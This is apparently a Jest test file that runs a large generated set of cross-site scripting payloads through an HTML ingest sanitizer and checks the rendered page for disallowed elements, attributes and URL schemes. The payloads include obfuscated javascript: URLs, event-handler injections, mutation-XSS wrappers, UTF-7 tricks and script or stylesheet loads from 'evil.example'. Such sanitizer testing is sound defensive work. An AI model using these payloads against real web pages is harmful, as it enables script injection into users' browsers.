import { describe, expect, test } from '@jest/globals';
import { type DefaultTreeAdapterTypes, parse } from 'parse5';
import { renderToString } from 'preact-render-to-string';
import { Block } from '#libs/contracts';
import { Body } from '../apps/gateway/src/pages/body.tsx';
import { parseHtml } from '../apps/ingest/src/body/html.ts';

/** What a page may have of a body: elements with their attributes. */
const elements: Readonly<Record<string, readonly string[]>> = {
  p: ['class'],
  h2: [],
  h3: [],
  blockquote: [],
  footer: [],
  cite: [],
  ul: [],
  ol: [],
  li: [],
  aside: ['class'],
  section: ['class', 'tabindex', 'aria-label'],
  table: [],
  caption: [],
  thead: [],
  tbody: [],
  tr: [],
  th: ['scope', 'colspan'],
  td: ['colspan'],
  figure: ['class'],
  figcaption: [],
  span: ['class', 'lang'],
  a: ['href', 'rel'],
  strong: [],
  em: [],
  code: [],
  sup: [],
  sub: [],
  ruby: [],
  rp: [],
  rt: [],
  br: [],
  hr: [],
};

/** What a browser would find on the page that must not be there. */
function findings(html: string): string[] {
  const page = `<!doctype html><html lang="ko"><head><title>t</title></head><body><article>${html}</article></body></html>`;
  const [article] = all(parse(page)).filter(({ tagName }) => tagName === 'article');
  if (!article) return ['no article'];
  const outside = all(parse(page)).length - all(article).length - 5;
  const wrong = all(article).flatMap(({ tagName, namespaceURI, attrs }) => {
    const allowed = Object.hasOwn(elements, tagName) ? elements[tagName] : undefined;
    if (!allowed || namespaceURI !== 'http://www.w3.org/1999/xhtml') return [`<${tagName}>`];
    return attrs.flatMap(({ name, value }) => {
      if (!allowed.includes(name)) return [`${tagName} ${name}`];
      const bad = name === 'href' && !/^(https?:|mailto:)$/.test(schemeOf(value));
      return bad ? [`href ${value}`] : [];
    });
  });
  return outside === 0 ? wrong : [...wrong, `${outside} elements left the article`];
}

function all(node: DefaultTreeAdapterTypes.Node): DefaultTreeAdapterTypes.Element[] {
  const children = 'childNodes' in node ? node.childNodes : [];
  const own = 'content' in node ? [node.content] : [];
  return [...children, ...own].flatMap((child) => ['tagName' in child ? [child] : [], all(child)].flat());
}

/** As a browser resolves it. */
function schemeOf(href: string): string {
  const url = new URL(href, 'https://paper.example/a');
  return url.host === 'paper.example' || /^(https?|mailto):/i.test(href) ? url.protocol : 'another host';
}

const call = 'alert(1)';
const schemes = [
  'javascript',
  'JaVaScRiPt',
  'vbscript',
  'data',
  'livescript',
  'blob',
  'filesystem',
  'view-source',
  'about',
  'file',
  'intent',
];
/** The same word, hidden from whoever compares letters. */
const hidden = [
  (name: string) => `${name}:${call}`,
  (name: string) => ` \t\n${name}:${call}`,
  (name: string) => `${name.slice(0, 3)}\t${name.slice(3)}:${call}`,
  (name: string) => `${name.slice(0, 3)}&#10;${name.slice(3)}&colon;${call}`,
  (name: string) => `\u0000${name}:${call}`,
  (name: string) => `&#1;${name}:${call}`,
  (name: string) => `&#x${name.charCodeAt(0).toString(16)};${name.slice(1)}&#58;${call}`,
  (name: string) => `&#0000${name.charCodeAt(0)}${name.slice(1)}:${call}`,
  (name: string) => `\uFEFF${name}:${call}`,
  (name: string) => `${name}&#xFF1A;${call}`,
  (name: string) => `/\\${name}.example`,
  (name: string) => `//${name}.example`,
];
const addresses = schemes.flatMap((name) => hidden.map((hide) => hide(name)));
/** Attributes that lead, load or run. */
const carriers = [
  (at: string) => `<a href="${at}">기사</a>`,
  (at: string) => `<img src="${at}" srcset="${at} 2x">`,
  (at: string) => `<iframe src="${at}" srcdoc="<script>${call}</script>"></iframe>`,
  (at: string) => `<video src='${at}' poster='${at}'><source src='${at}'></video>`,
  (at: string) => `<figure><oembed url="${at}"></oembed></figure>`,
  (at: string) => `<blockquote class="twitter-tweet" cite="${at}"><a href="${at}">x</a></blockquote>`,
  (at: string) => `<form action="${at}"><button formaction="${at}">x</button></form>`,
  (at: string) => `<svg><a xlink:href="${at}"><text>x</text></a></svg>`,
];

const handlers = [
  'onerror',
  'onload',
  'onclick',
  'ONMOUSEOVER',
  'onfocus',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
];
const hosts = [
  (on: string) => `<img src=x ${on}=${call}>`,
  (on: string) => `<img src="https://a.example/1"${on}="${call}">`,
  (on: string) => `<p/${on}=${call}/style=animation:x>a`,
  (on: string) => `<details open ${on}='${call}'><summary>a</summary>b</details>`,
  (on: string) => `<svg/${on}=${call}>`,
  (on: string) => `<td ${on}=${call} style="background:url(javascript:${call})">a<td>b`,
  (on: string) => `<a href="https://a.example/&quot; ${on}=&quot;${call}">a</a>`,
  (on: string) => `<img alt="&quot;> <i ${on}=${call}>" src="https://a.example/1">`,
  (on: string) => `<ruby>a<rt>"><b ${on}=${call}>b</rt></ruby>`,
  (on: string) => `<p lang='en" ${on}="${call}'>a</p>`,
];

/** Texts that one parser reads as text and another as markup. */
const wrappers = [
  'svg',
  'math',
  'style',
  'noscript',
  'template',
  'textarea',
  'title',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'plaintext',
  'select',
  'mtext',
  'foreignobject',
  'annotation-xml',
  'table',
  'caption',
  'ruby',
  'option',
  'listing',
  'p',
];
const inners = [
  (tag: string) => `<${tag}><script>${call}</script></${tag}>`,
  (tag: string) => `<${tag}><img src=x onerror=${call}>`,
  (tag: string) => `<svg></p><${tag}><a id="</${tag}><img src=1 onerror=${call}>">`,
  (tag: string) =>
    `<math><mtext><table><mglyph><${tag}><!--</${tag}><img title="--&gt;&lt;img src=1 onerror=${call}&gt;">`,
  (tag: string) => `<${tag}>&lt;script&gt;${call}&lt;/script&gt;</${tag}>`,
  (tag: string) => `<${tag}/><![CDATA[<script>${call}</script>]]></${tag}>`,
  (tag: string) => `<form><${tag}><form><svg><style><img src=x onerror=${call}></style>`,
];

const others = [
  `<!--><script>${call}</script>-->`,
  `<!-- --!><img src=x onerror=${call}> -->`,
  `<!--[if gte IE 4]><script>${call}</script><![endif]-->`,
  `<!-<script>${call}</script>`,
  `<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<scr\u0000ipt>${call}</scr\u0000ipt>`,
  `<\u0000script>${call}</script>`,
  `\uFEFF<script>${call}</script>`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
  `<meta charset="utf-7">+ADw-img src=x onerror=${call}+AD4-`,
  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
  `<base href="javascript:/a/-${call}///">`,
  '<link rel="stylesheet" href="//evil.example/a.css">',
  `<object data="data:text/html,<script>${call}</script>"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${call}>">`,
  `<script/src=//evil.example></script foo>`,
  `<<script>${call}//<</script>`,
  `<script\n>${call}</script\n>`,
  `<img """><script>${call}</script>">`,
  `<a href="https://a.example"><p style="x:expression(${call})">a</a>`,
  `<isindex type=image src=1 onerror=${call}>`,
  `<constructor onload=${call}>a</constructor><__proto__>b</__proto__>`,
  `<x:a xlink:href="javascript:${call}">a</x:a>`,
  `<img src=\`javascript:${call}\`>`,
  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${call}">a</a>`,
  `\u{E0001}<\u200Bscript>${call}</script>`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `</article></main></body><script>${call}</script>`,
  `<p>a</p></article><img src=x onerror=${call}>`,
];

const attacks: Readonly<Record<string, readonly string[]>> = {
  'addresses that run': addresses.flatMap((at) => carriers.map((carry) => carry(at))),
  handlers: handlers.flatMap((on) => hosts.map((host) => host(on))),
  'markup that parsers read differently': wrappers.flatMap((tag) => inners.map((inner) => inner(tag))),
  'all else that has been tried': others,
};

describe('what comes through the gate and stands on a page has nothing that runs, loads or leads astray', () => {
  test.each(Object.entries(attacks))('%s', (_, vectors) => {
    const through = vectors.flatMap((vector) => {
      const { blocks } = parseHtml(vector, 'ko');
      for (const block of blocks) expect(Block.parse(block)).toEqual(block);
      const found = findings(renderToString(<Body blocks={blocks} />));
      return found.length > 0 ? [{ vector, found }] : [];
    });
    expect(through).toEqual([]);
  });

  test('and whoever looks for it would find it', () => {
    const naive = Object.values(attacks).flat();
    const found = naive.filter((vector) => findings(vector).length > 0);
    expect(found.length / naive.length).toBeGreaterThan(0.9);
  });
});
